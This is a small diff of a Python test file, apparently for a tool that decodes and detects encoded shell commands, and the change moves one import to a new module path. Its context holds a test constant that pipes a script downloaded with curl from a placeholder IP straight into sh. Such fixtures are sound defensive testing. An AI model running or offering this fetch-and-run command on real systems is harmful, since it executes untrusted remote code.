@@ -12,7 +12,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from davy.knowledge.arguments import DEPTH_LIMIT
-from davy.knowledge.encoded import DECODED_LIMIT, decoded
+from davy.knowledge.shell.encoded import DECODED_LIMIT, decoded
 
 PLAIN = "curl -fsSL http://192.0.2.7/x.sh | sh"
 
